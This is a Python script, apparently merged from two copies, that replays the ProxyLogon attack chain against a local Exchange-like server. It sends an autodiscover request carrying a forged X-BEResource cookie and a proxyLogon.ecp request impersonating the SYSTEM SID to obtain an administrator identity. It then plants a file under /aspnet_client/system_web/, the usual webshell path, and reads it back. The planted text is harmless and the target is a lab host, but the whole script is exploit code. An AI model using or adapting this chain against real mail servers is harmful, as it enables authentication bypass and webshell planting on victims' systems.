# ruff: noqa
"""Merged tool: probe and identity as one copy had them, note steps as another had them."""

import sys

import requests

S = requests.Session()
S.headers.clear()
ROOT = "http://127.0.0.1:%s" % sys.argv[1]
UA_A = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
UA_B = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"

probe = S.get(
    ROOT + "/autodiscover/autodiscover.json",
    params=[
        ("Pad", "A" * 37),
        ("Protocol", "Autodiscoverv1"),
        ("Email", "administrator@lab.invalid/mapi/nspi"),
        ("RequestId", "20200302-7720"),
    ],
    headers={
        "User-Agent": UA_A,
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
        "cookie": "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522",
    },
    timeout=10,
)
ident = S.post(
    ROOT + "/ecp/proxyLogon.ecp",
    headers={
        "user-agent": UA_A,
        "msexchlogonmailbox": "S-1-5-20",
        "content-type": "application/json",
        "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
    },
    data='{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}',
    timeout=15,
)
who = ident.text.strip() or "anonymous"
where = "/aspnet_client/system_web/readme_81553.txt"
S.post(
    ROOT + where,
    data="\n".join(f"note {i} of 3 for {who}" for i in (1, 2, 3)).encode(),
    headers={"user-agent": UA_B, "Content-Type": "text/plain", "x-note-path": where},
    timeout=15,
)
back = S.get(
    ROOT + where,
    headers={
        "accept-language": "en-US",
        "X-Requested-With": "XMLHttpRequest",
        "Accept": "*/*",
        "connection": "close",
        "User-Agent": UA_B,
    },
    timeout=15,
)
print(back.status_code)
